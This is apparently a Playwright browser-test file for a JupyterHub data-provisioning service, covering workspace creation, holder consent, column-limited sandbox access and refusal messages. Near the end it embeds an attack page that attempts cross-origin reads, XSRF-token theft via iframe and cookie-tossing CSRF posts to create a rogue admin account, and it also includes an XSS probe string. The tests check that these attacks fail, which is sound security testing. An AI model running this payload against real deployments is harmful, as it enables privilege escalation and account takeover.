"""The provisioning pages in chromium (Debian's, through Playwright), on the package's real hub with
real sandboxes: an admin builds a workspace, the data holder consents on their own page, and the
operator's sandbox then sees exactly the columns asked for. Also: who is refused where, the service
layer's refusals shown on the page, and a page on a user server's origin changing nothing."""

from __future__ import annotations

import json
import uuid
from urllib.parse import urlparse

import pytest
import requests
from enclave_testing import CHROMIUM, CHROMIUM_ARGS, EvilServer, wait_for
from playwright.sync_api import expect, sync_playwright

from enclave import accounts, sources, workspaces

from .conftest import PASSWORD

pytestmark = pytest.mark.browser

TIMEOUT = 90_000
WORKSPACE = "pages-census"
PURPOSE = "人口普查：按区统计年龄分布，<b>不做</b>个体识别 & 不外传"
REASON = "分区年龄汇总，只要 region 和 age"


@pytest.fixture(scope="module")
def browser():
    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        yield b
        b.close()


def page_of(browser, hub, user: str):
    """A page logged in as ``user`` through the hub's login page; console errors are kept in
    ``page.errors`` (but for the statuses of refusals, which the tests assert themselves)."""
    context = browser.new_context()
    page = context.new_page()
    page.set_default_timeout(TIMEOUT)
    page.goto(f"{hub.url}/hub/login")
    page.fill("input[name=username]", user)
    page.fill("input[name=password]", PASSWORD)
    page.click("#login_submit")
    page.wait_for_url("**/hub/home**")
    page.errors = []
    page.on("console", lambda m: page.errors.append(f"{page.url}: {m.text}")
            if m.type == "error" and not m.text.startswith("Failed to load resource") else None)
    return page


def service(hub) -> str:
    return hub.service_url("provisioning")


def flash(page) -> str:
    return page.locator("#flash").inner_text()


def test_an_admin_builds_a_workspace_the_holder_consents_and_the_operator_sees_only_those_columns(hub, browser,
                                                                                                 tmp_path):
    admin = page_of(browser, hub, "adam")
    # The hub's home page leads admins to the provisioning pages.
    admin.locator("#provisioning-link a").click()
    admin.wait_for_url(f"{service(hub)}/workspaces")
    # So does the hub's admin page.
    admin.goto(f"{hub.url}/hub/admin")
    admin.locator("#provisioning-pages").click()
    admin.wait_for_url(f"{service(hub)}/workspaces")

    # The source's holder, on the sources page.
    admin.goto(f"{service(hub)}/sources")
    admin.fill("#source", "people")
    admin.select_option("#holder", "hana")
    admin.get_by_role("button", name="Set the data holder").click()
    expect(admin.locator("#sources tr[data-source=people]")).to_contain_text("hana")

    # The workspace, with its purpose in Chinese (and characters that would be markup).
    admin.goto(f"{service(hub)}/workspaces")
    admin.fill("#name", WORKSPACE)
    admin.fill("#purpose", PURPOSE)
    admin.select_option("#holder", "hana")
    admin.get_by_role("button", name="Create the workspace").click()
    admin.wait_for_url(f"{service(hub)}/workspaces/{WORKSPACE}")
    assert flash(admin) == f"Workspace {WORKSPACE} created."
    expect(admin.locator("#purpose-text")).to_have_text(PURPOSE)
    expect(admin.locator("#purpose-text b")).to_have_count(0)  # text, never markup
    expect(admin.locator("#next-start")).to_contain_text("Changes apply at each sandbox's next start")

    for user, role in (("olga", "operator"), ("rita", "reviewer")):
        admin.select_option("#member-user", user)
        admin.select_option("#member-role", role)
        admin.get_by_role("button", name="Add the member").click()
        assert flash(admin) == f"{user} is now a {role} of {WORKSPACE}."
    expect(admin.locator("tr.member")).to_have_count(2)

    # The column picker is built from the release's tables and columns.
    admin.select_option("#ask", "people@1")
    admin.get_by_role("button", name="Choose its columns…").click()
    picker = admin.locator("#ask-release")
    expect(picker.locator("input[name=column]")).to_have_count(3)
    picker.get_by_label("region").check()
    picker.get_by_label("age").check()
    picker.locator("#ask-reason").fill(REASON)
    picker.get_by_role("button", name="Ask for the release").click()
    assert flash(admin).startswith("people@1 is asked for")
    row = admin.locator("#releases tr[data-release='people@1']")
    expect(row).to_contain_text("awaiting consent")
    expect(row).to_contain_text("people: region, age")

    # Another holder is asked nothing.
    other = page_of(browser, hub, "hugo")
    other.goto(f"{service(hub)}/consents")
    expect(other.locator("#none-awaiting")).to_be_visible()
    expect(other.locator(".consent-request")).to_have_count(0)
    other.context.close()

    # The holder reads the purpose, what is asked for and why, and consents.
    holder = page_of(browser, hub, "hana")
    holder.locator("#provisioning-link a").click()
    holder.wait_for_url(f"{service(hub)}/consents")
    request = holder.locator(f".consent-request[data-workspace={WORKSPACE}]")
    expect(request.locator("p.purpose")).to_have_text(PURPOSE)
    expect(request.locator("td.columns")).to_have_text("people: region, age")
    expect(request.locator("blockquote.reason")).to_have_text(REASON)
    request.get_by_role("button", name="Consent").click()
    assert flash(holder) == f"You consented: people@1 is attached to {WORKSPACE} from its sandboxes' next start."
    expect(holder.locator(f".consent-request[data-workspace={WORKSPACE}]")).to_have_count(0)
    assert holder.errors == []
    holder.context.close()

    admin.reload()
    expect(admin.locator("#releases tr[data-release='people@1']")).to_contain_text("attached")
    shown = workspaces.get(hub.settings, WORKSPACE).describe()
    assert shown["members"] == {"owner": [], "operator": ["olga"], "reviewer": ["rita"]}
    assert shown["releases"] == {"people@1": {"columns": {"people": ["region", "age"]}, "reason": REASON,
                                              "status": "attached"}}
    assert shown["purpose"] == PURPOSE
    [attach] = hub.audit_records(action="workspace.attach", workspace=WORKSPACE)
    assert (attach["actor"], attach["source"]) == ("hana", "hub")
    # The same workspace declared in a file and applied ends in the same state (issue #15: pages,
    # file and CLI; tests/test_apply.py shows the CLI's equal to the file's).
    declared = tmp_path / "census.yaml"
    declared.write_text(json.dumps({"workspaces": {f"{WORKSPACE}-file": {
        "purpose": PURPOSE, "holder": "hana", "members": {"operator": ["olga"], "reviewer": ["rita"]},
        "releases": {"people@1": {"columns": ["region", "age"], "reason": REASON}}}}}, ensure_ascii=False))
    hub.cli("apply", str(declared))
    hub.consent(f"{WORKSPACE}-file", "people@1", holder="hana")
    by_file = workspaces.get(hub.settings, f"{WORKSPACE}-file").describe()
    assert by_file.pop("name") == f"{WORKSPACE}-file" and shown.pop("name") == WORKSPACE
    assert by_file == shown

    # The operator starts the workspace: its kernel sees the two columns, and nothing else.
    olga = hub.login("olga", PASSWORD)
    assert olga.start(WORKSPACE).status_code == 200
    try:
        kernel = olga.kernel(WORKSPACE)
        seen = kernel.value(
            "import json, pathlib, pyarrow.parquet as pq, pandas as pd\n"
            "d = pathlib.Path('/data/people@1')\n"
            "print(json.dumps({'data': sorted(p.name for p in pathlib.Path('/data').iterdir()),"
            " 'parquet': {p.name: pq.read_schema(p).names for p in sorted(d.glob('*.parquet'))},"
            " 'csv': {p.name: list(pd.read_csv(p).columns) for p in sorted(d.glob('*.csv'))}}))")
        kernel.close()
        assert seen == {"data": ["people@1"], "parquet": {"people.parquet": ["region", "age"]},
                        "csv": {"people.csv": ["region", "age"]}}

        # A page on the operator's server's origin, opened by the admin, changes nothing.
        a_page_on_a_user_s_origin_changes_nothing(hub, admin, olga)
    finally:
        olga.stop(WORKSPACE)
    assert admin.errors == []
    admin.context.close()


def test_an_admin_sees_the_running_sandboxes_of_a_workspace_and_stops_one(hub, browser):
    ws = "pages-running"
    workspaces.create(hub.settings, ws, purpose="运行中的沙箱")
    workspaces.add_member(hub.settings, ws, "olga", "operator")
    admin = page_of(browser, hub, "adam")
    admin.goto(f"{service(hub)}/workspaces/{ws}")
    expect(admin.locator("#no-sandboxes")).to_be_visible()
    olga = hub.login("olga", PASSWORD)
    assert olga.start(ws).status_code == 200
    try:
        admin.reload()
        sandbox = admin.locator("#sandboxes tr.sandbox[data-user=olga]")
        expect(sandbox).to_contain_text("running")
        sandbox.get_by_role("button", name="Stop").click()
        assert flash(admin) in (f"olga's sandbox of {ws} is stopping.", f"olga's sandbox of {ws} is stopped.")
        wait_for(lambda: ws not in olga.hub_api("GET", "/users/olga").json().get("servers", {}), 60,
                 "olga's sandbox to stop")
        # JupyterHub stopped it for the admin, with the admin's own token: the record names them.
        [stop] = hub.audit_records(action="sandbox.stop", workspace=ws)
        assert (stop["actor"], stop["detail"]["reason"]) == ("adam", "asked by user adam"), stop
    finally:
        if ws in olga.hub_api("GET", "/users/olga").json().get("servers", {}):
            olga.stop(ws)
    admin.reload()
    expect(admin.locator("#no-sandboxes")).to_be_visible()
    assert admin.errors == []
    admin.context.close()


def test_the_holder_refuses_saying_why(hub, browser):
    ws = "pages-refused"
    purpose = "住户调查 <script>alert(1)</script> “全量” & 'q'"
    sources.set_holder(hub.settings, "people", "hana")
    workspaces.create(hub.settings, ws, purpose=purpose, holder="hana")
    workspaces.attach(hub.settings, ws, "people@1", "adam", reason="要全部列")
    holder = page_of(browser, hub, "hana")
    holder.goto(f"{service(hub)}/consents")
    request = holder.locator(f".consent-request[data-workspace={ws}]")
    expect(request.locator("p.purpose")).to_have_text(purpose)
    expect(request.locator("td.columns")).to_have_text("the whole release (every table and column)")
    request.locator("textarea[name=reason]").fill("超出最小必要范围：只提供汇总所需的列")
    request.get_by_role("button", name="Refuse").click()
    assert flash(holder) == f"You refused people@1 for {ws}; the admins see your reason."
    expect(holder.locator(f".consent-request[data-workspace={ws}]")).to_have_count(0)
    assert workspaces.get(hub.settings, ws).describe()["releases"] == {}
    [refused] = hub.audit_records(action="workspace.attach_refuse", workspace=ws)
    assert (refused["actor"], refused["detail"]["reason"]) == ("hana", "超出最小必要范围：只提供汇总所需的列")
    assert holder.errors == []
    holder.context.close()


def test_operators_are_refused_and_holders_provision_nothing(hub, browser):
    # An operator's browser is refused by JupyterHub before it reaches the service.
    page = page_of(browser, hub, "olga")
    for path in ("/workspaces", "/accounts", "/consents", "/"):
        answer = page.goto(service(hub) + path)
        assert answer.status == 403, (path, answer.status, page.url)
        expect(page.locator("body")).not_to_contain_text("Create the workspace")
    page.context.close()

    # A data holder reaches the service, but none of the admins' pages.
    page = page_of(browser, hub, "hugo")
    for path in ("/workspaces", "/accounts", "/accounts/adam", "/sources"):
        answer = page.goto(service(hub) + path)
        assert answer.status == 403, (path, answer.status)
        expect(page.locator("#error")).to_have_text(
            "hugo may not provision: that takes the scope custom:workspaces:admin (admins)")
    page.context.close()


def test_the_service_layer_s_refusals_are_shown_on_the_page(hub, browser):
    # adam is to be the last active admin: admins the package's other tests made are disabled.
    for other in accounts.all_accounts(hub.settings):
        if other.name != "adam" and "admin" in other.roles and other.usable:
            accounts.disable(hub.settings, other.name, "tests: adam is to be the last active admin")
    admin = page_of(browser, hub, "adam")
    # The last admin stays: disabling, removing and taking the role are refused, saying why.
    admin.goto(f"{service(hub)}/accounts/adam")
    admin.fill("#disable-reason", "离职")
    admin.get_by_role("button", name="Disable the account").click()
    expect(admin.locator("#error")).to_have_text("cannot disable 'adam': it is the last active admin account;"
                                                 " make another account an admin first")
    admin.locator("#roles").get_by_label("admin").uncheck()
    admin.locator("#roles").get_by_label("operator").check()
    admin.get_by_role("button", name="Set the roles").click()
    expect(admin.locator("#error")).to_contain_text("cannot take the admin role from 'adam': it is the last"
                                                    " active admin account")
    admin.get_by_role("button", name="Remove the account…").click()
    admin.fill("#remove-confirm", "adam")
    admin.get_by_role("button", name="Remove adam").click()
    expect(admin.locator("#error")).to_contain_text("cannot remove 'adam': it is the last active admin account")
    account = accounts.get_account(hub.settings, "adam")
    assert (account.state, account.roles) == ("active", ("admin",))

    # A name the service layer refuses, kept in the form as it was typed.
    admin.goto(f"{service(hub)}/workspaces")
    admin.fill("#name", "Not A Name")
    admin.fill("#purpose", "测试")
    admin.get_by_role("button", name="Create the workspace").click()
    expect(admin.locator("#error")).to_contain_text("name")
    expect(admin.locator("#purpose")).to_have_value("测试")
    # Archiving asks for the workspace's name first: it is final.
    admin.fill("#name", "pages-archive")
    admin.fill("#purpose", "归档测试")
    admin.get_by_role("button", name="Create the workspace").click()
    # Settings, limits and guard: what the form leaves blank stays as it was declared.
    admin.locator("#settings input[name=expires_at]").fill("2031-06-30T08:00")
    admin.get_by_role("button", name="Set the expiry").click()
    assert flash(admin) == "pages-archive expires 2031-06-30 08:00 UTC."
    admin.get_by_role("button", name="Allow operators to review").click()
    admin.fill("#limit-memory_mb", "1024")
    admin.get_by_role("button", name="Change the limits").click()
    assert flash(admin) == "The limits are changed: they apply at each sandbox's next start."
    admin.fill("#limit-cpus", "lots")
    admin.get_by_role("button", name="Change the limits").click()
    expect(admin.locator("#error")).to_have_text("cpus 'lots' is not a number")
    admin.fill("#guard-egress_hour_mb", "8")
    admin.get_by_role("button", name="Change the guard settings").click()
    admin.check("#guard-terminals")
    admin.get_by_role("button", name="Change the guard settings").click()
    admin.fill("#policy-approvals_required", "1")
    admin.fill("#policy-min_cell_count", "20")
    admin.get_by_role("button", name="Change the export policy").click()
    assert flash(admin) == "The export policy is changed: export requests made from now on follow it."
    expect(admin.locator("#export-policy")).to_contain_text("pages-archive/v1")
    admin.fill("#policy-nk_k", "1.5")
    admin.get_by_role("button", name="Change the export policy").click()
    expect(admin.locator("#error")).to_contain_text("nk_k: input should be less than or equal to 1 (got 1.5)")
    declared = workspaces.get(hub.settings, "pages-archive").describe()
    assert declared["export_policy"] == {"approvals_required": 1, "min_cell_count": 20}
    assert (declared["limits"], declared["guard"]) == ({"memory_mb": 1024}, {"egress_hour_mb": 8, "terminals": True})
    assert (declared["expires_at"], declared["operators_may_review"]) == ("2031-06-30T08:00:00+00:00", True)
    admin.get_by_role("button", name="Archive…").click()
    admin.fill("#archive-reason", "项目结束")
    admin.fill("#archive-confirm", "wrong")
    admin.get_by_role("button", name="Archive pages-archive for good").click()
    expect(admin.locator("#error")).to_have_text("type the workspace's name, pages-archive, to confirm archiving"
                                                 " it: it is final")
    assert workspaces.get(hub.settings, "pages-archive").state == "active"
    admin.get_by_role("button", name="Archive…").click()
    admin.fill("#archive-reason", "项目结束")
    admin.fill("#archive-confirm", "pages-archive")
    admin.get_by_role("button", name="Archive pages-archive for good").click()
    expect(admin.locator("#state-badge")).to_have_text("archived")
    expect(admin.locator("#state-reason")).to_have_text("项目结束")
    expect(admin.locator("form")).to_have_count(0)  # nothing changes an archived workspace
    # An unknown workspace is a page saying so.
    assert admin.goto(f"{service(hub)}/workspaces/nowhere").status == 404
    expect(admin.locator("#error")).to_have_text("no workspace named 'nowhere'")
    assert admin.errors == []
    admin.context.close()


# -- a page on a user server's origin --

ATTACK = """<!doctype html><meta charset="utf-8"><title>a chart</title>
<script>
const SERVICE = %(service)s, TOSSED = %(tossed)s, WS = %(workspace)s;
const report = (what, value) => fetch("report", {method: "POST", body: JSON.stringify({what, value: String(value)})});
async function read(what, url, init) {
  try {
    const r = await fetch(url, {credentials: "include", ...(init || {})});
    await report(what, r.status + " " + (await r.text()));
  } catch (e) { await report(what, "refused: " + e); }
}
function framed(src) {
  return new Promise(done => {
    const f = document.createElement("iframe");
    f.src = src;
    f.onload = () => {
      try { done("read: " + f.contentDocument.querySelector("input[name=_xsrf]").value); }
      catch (e) { done("refused: " + e); }
    };
    setTimeout(() => done("no load"), 15000);
    document.body.appendChild(f);
  });
}
function post(target, fields) {
  return new Promise(done => {
    const name = "sink" + Math.random();
    const sink = document.createElement("iframe");
    sink.name = name;
    sink.onload = () => done();
    document.body.appendChild(sink);
    const form = document.createElement("form");
    form.method = "POST"; form.action = target; form.target = name;
    for (const [k, v] of Object.entries(fields)) {
      const input = document.createElement("input");
      input.name = k; input.value = v; form.appendChild(input);
    }
    document.body.appendChild(form);
    form.submit();
    setTimeout(done, 5000);
  });
}
(async () => {
  await report("started", location.origin);
  await read("page", SERVICE + "/workspaces/" + WS);
  await read("api", SERVICE + "/api/workspaces/" + WS);
  await report("frame", await framed(SERVICE + "/workspaces/" + WS));
  await post(SERVICE + "/workspaces", {_xsrf: TOSSED, action: "create", name: "mallory-ws", purpose: "x"});
  await post(SERVICE + "/workspaces/" + WS, {_xsrf: TOSSED, action: "add-member", user: "dual", role: "operator"});
  await post(SERVICE + "/workspaces/" + WS, {_xsrf: TOSSED, action: "freeze", reason: "x"});
  await post(SERVICE + "/accounts", {_xsrf: TOSSED, action: "create", name: "mallory", role: "admin"});
  await post(SERVICE + "/accounts/olga", {_xsrf: TOSSED, action: "disable", reason: "x"});
  await read("api create", SERVICE + "/api/accounts", {method: "POST", headers: {"X-XSRFToken": TOSSED,
      "Content-Type": "application/json"}, body: JSON.stringify({name: "mallory", roles: ["admin"]})});
  await report("done", "");
})();
</script><body></body>"""


def serve_on_the_server_s_origin(hub, server_url: str, target: str) -> str:
    """Route ``evil/`` under the operator's server to ``target``, as a taken-over server would answer it."""
    token = (hub.home / "secrets" / "proxy_auth_token").read_text().strip()
    api = f"http://127.0.0.1:{hub.proxy_api_port}/api/routes"
    headers = {"Authorization": f"token {token}"}
    routes = requests.get(api, headers=headers, timeout=10).json()
    url = urlparse(server_url)
    path = url.path.rstrip("/") + "/evil/"
    spec = (url.hostname + path) if any("host" in route for route in routes.values()) else path
    r = requests.post(f"{api}/{spec.strip('/')}", headers=headers, json={"target": target}, timeout=10)
    assert r.status_code == 201, r.text
    return f"{url.scheme}://{url.netloc}{path}"


def a_page_on_a_user_s_origin_changes_nothing(hub, admin_page, operator):
    """The admin, logged in to the provisioning pages, opens a page the operator's server serves: it
    reads nothing, and its posts (with an ``_xsrf`` cookie tossed onto the parent domain) change nothing."""
    tossed = "tossed-" + uuid.uuid4().hex
    evil = EvilServer(ATTACK % {"service": json.dumps(service(hub)), "tossed": json.dumps(tossed),
                                "workspace": json.dumps(WORKSPACE)})
    url = serve_on_the_server_s_origin(hub, operator.server_url(WORKSPACE),
                                       f"{evil.url}/{uuid.uuid4().hex}")
    before = (workspaces.get(hub.settings, WORKSPACE).describe(), accounts.all_accounts(hub.settings))
    context = admin_page.context
    parent = urlparse(hub.url).hostname
    context.add_cookies([{"name": "_xsrf", "value": tossed, "domain": parent, "path": path}
                         for path in ("/", "/services/provisioning/", "/services/provisioning/workspaces/")])
    page = context.new_page()
    try:
        page.goto(url)
        assert evil.done.wait(60), evil.reports
    finally:
        page.close()
        evil.close()
    assert evil.report("started") == hub.user_origin("olga")
    for what in ("page", "api", "api create"):
        assert evil.report(what).startswith("refused"), (what, evil.report(what)[:300])
    assert evil.report("frame").startswith(("refused", "no load")), evil.report("frame")[:300]
    log = (hub.home / "hub.log").read_text()
    assert f"403 POST /services/provisioning/workspaces/{WORKSPACE}" in log
    assert (workspaces.get(hub.settings, WORKSPACE).describe(), accounts.all_accounts(hub.settings)) == before
